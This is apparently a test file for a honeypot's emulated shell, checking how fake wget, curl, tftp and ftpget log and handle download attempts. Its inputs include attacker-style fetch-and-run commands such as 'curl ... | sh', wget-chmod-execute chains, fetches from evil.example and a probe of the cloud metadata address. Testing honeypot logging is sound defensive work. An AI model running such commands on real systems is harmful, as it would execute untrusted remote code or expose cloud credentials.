import { createHash } from 'node:crypto';
import { mkdtemp, rm } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runExec } from '../test-shell-host.js';

const SCRIPT = 'echo stage2\n';
const SHA = createHash('sha256').update(SCRIPT).digest('hex');

let dataDir: string;
let server: Server;
let base: string;
let requests = 0;

beforeAll(async () => {
  dataDir = await mkdtemp(join(tmpdir(), 'honeyscope-dl-'));
  server = createServer((req, res) => {
    requests++;
    if (req.url?.split('?')[0] === '/bot.sh') res.writeHead(200, { 'Content-Type': 'text/x-sh' }).end(SCRIPT);
    else res.writeHead(404, 'Not Found').end();
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  base = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
});

afterAll(async () => {
  server.closeAllConnections();
  await new Promise((resolve) => server.close(resolve));
  await rm(dataDir, { recursive: true, force: true });
});

function fetchMode(command: string): ReturnType<typeof runExec> {
  return runExec(command, { dataDir, config: { download: { mode: 'fetch', allow: ['127.0.0.1/32'] } } });
}

describe('download commands with download.mode off', () => {
  it('log every URL as file_download.failed and fail like an offline host', async () => {
    const before = requests;
    const result = await runExec(`wget ${base}/bot.sh; curl -O http://evil.example/x; wget -q files.example/y; tftp -g -r x86 198.51.100.9`, { dataDir });
    expect(requests).toBe(before);
    expect(result.events.filter((e) => e.eventid === 'cowrie.session.file_download.failed')).toEqual([
      {
        eventid: 'cowrie.session.file_download.failed',
        fields: { url: `${base}/bot.sh`, reason: 'download.mode=off' },
        message: `Attempt to download file(s) from URL (${base}/bot.sh) failed`,
      },
      expect.objectContaining({ fields: { url: 'http://evil.example/x', reason: 'download.mode=off' } }),
      expect.objectContaining({ fields: { url: 'http://files.example/y', reason: 'download.mode=off' } }),
      expect.objectContaining({ fields: { url: 'tftp://198.51.100.9/x86', reason: 'download.mode=off' } }),
    ]);
    expect(result.stderr).toMatch(/^--\d{4}-\d\d-\d\d \d\d:\d\d:\d\d--  http:\/\/127\.0\.0\.1:\d+\/bot\.sh\nConnecting to 127\.0\.0\.1:\d+\.\.\. failed: Connection refused\.\n/);
    expect(result.stderr).toContain('curl: (6) Could not resolve host: evil.example\n');
    expect(result.stderr).toContain('tftp: timeout\n');
    expect(result.stderr).not.toContain('files.example');
  });

  it('answers wget for a name with a resolution failure and status 4', async () => {
    const result = await runExec('wget http://evil.example/a.sh', { dataDir });
    expect(result.stderr.split('\n').slice(1)).toEqual([
      'Resolving evil.example (evil.example)... failed: Temporary failure in name resolution.',
      "wget: unable to resolve host address 'evil.example'",
      '',
    ]);
    expect(result.exitCode).toBe(4);
  });
});

describe('download commands with download.mode fetch', () => {
  it('wget stores the file, logs Cowrie\'s file_download and places it in the fake fs', async () => {
    const result = await fetchMode(`cd /tmp; wget ${base}/bot.sh; chmod +x bot.sh; ./bot.sh`);
    expect(result.events[1]).toEqual({
      eventid: 'cowrie.session.file_download',
      fields: { url: `${base}/bot.sh`, outfile: `downloads/${SHA}`, shasum: SHA, destfile: '/tmp/bot.sh', duplicate: expect.any(Boolean) },
      message: `Downloaded URL (${base}/bot.sh) with SHA-256 ${SHA} to downloads/${SHA}`,
    });
    expect(result.stderr).toContain("Saving to: 'bot.sh'");
    expect(result.stdout).toBe('stage2\n');
  });

  it('curl writes the body to stdout so | sh runs it in the emulator', async () => {
    const result = await fetchMode(`curl -s ${base}/bot.sh | sh`);
    expect(result.stdout).toBe('stage2\n');
    expect(result.events[1]?.fields).toMatchObject({ url: `${base}/bot.sh`, destfile: '-', shasum: SHA });
  });

  it('curl -o and wget -O name the destination', async () => {
    const result = await fetchMode(`curl -s -o /tmp/a ${base}/bot.sh; wget -q -O /tmp/b ${base}/bot.sh; cat /tmp/a /tmp/b`);
    expect(result.stdout).toBe(SCRIPT + SCRIPT);
    expect(result.events.filter((e) => e.eventid === 'cowrie.session.file_download').map((e) => e.fields.destfile)).toEqual(['/tmp/a', '/tmp/b']);
  });

  it('logs a refused address with its reason and prints a failure', async () => {
    const result = await fetchMode('wget http://10.0.0.1/x; curl http://169.254.169.254/latest/meta-data/');
    expect(result.events.slice(1)).toEqual([
      expect.objectContaining({ eventid: 'cowrie.session.file_download.failed', fields: { url: 'http://10.0.0.1/x', reason: 'address 10.0.0.1 is private' } }),
      expect.objectContaining({
        fields: { url: 'http://169.254.169.254/latest/meta-data/', reason: 'address 169.254.169.254 is a cloud metadata service' },
      }),
    ]);
    expect(result.stderr).toContain('Connecting to 10.0.0.1:80... failed: Connection refused.\n');
    expect(result.stderr).toContain("curl: (7) Failed to connect to 169.254.169.254 port 80 after 0 ms: Couldn't connect to server\n");
  });

  it('reports an HTTP error as wget does', async () => {
    const result = await fetchMode(`wget ${base}/missing`);
    expect(result.stderr).toContain('HTTP request sent, awaiting response... 404 Not Found\n');
    expect(result.exitCode).toBe(8);
    expect(result.events[1]?.fields).toEqual({ url: `${base}/missing`, reason: 'HTTP 404 Not Found' });
  });

  it('ftpget logs its ftp:// URL through the download rules and never connects', async () => {
    const off = await runExec('ftpget -u bot -p pw 198.51.100.9 /tmp/b.sh /pub/b.sh', { dataDir });
    expect(off.events[1]?.fields).toEqual({ url: 'ftp://bot:pw@198.51.100.9/pub/b.sh', reason: 'download.mode=off' });
    expect(off.stderr).toBe("ftpget: can't connect to remote host (198.51.100.9): Connection refused\n");
    expect(off.exitCode).toBe(1);
    const fetching = await fetchMode('ftpget -P 2121 files.example x86; ls x86');
    expect(fetching.events[1]?.fields).toEqual({ url: 'ftp://files.example:2121/x86', reason: 'scheme ftp: is not fetched' });
    expect(fetching.stderr).toBe("ftpget: bad address 'files.example'\nls: cannot access 'x86': No such file or directory\n");
  });

  it('does not fetch tftp but logs its URL', async () => {
    const result = await fetchMode('tftp 198.51.100.9 -c get bins.sh');
    expect(result.events[1]?.fields).toEqual({ url: 'tftp://198.51.100.9/bins.sh', reason: 'tftp is not fetched' });
  });
});

describe('download limits', () => {
  it('fetches at most MAX_FETCHES_PER_SESSION URLs per session and logs the rest', async () => {
    const before = requests;
    const line = Array.from({ length: 22 }, (_, i) => `wget -q ${base}/bot.sh?n=${i}`).join('; ');
    const result = await fetchMode(line);
    expect(requests - before).toBe(20);
    expect(result.events.filter((e) => e.eventid === 'cowrie.session.file_download')).toHaveLength(20);
    expect(result.events.filter((e) => e.eventid === 'cowrie.session.file_download.failed').map((e) => e.fields.reason)).toEqual([
      'more than 20 downloads in this session',
      'more than 20 downloads in this session',
    ]);
  });
});
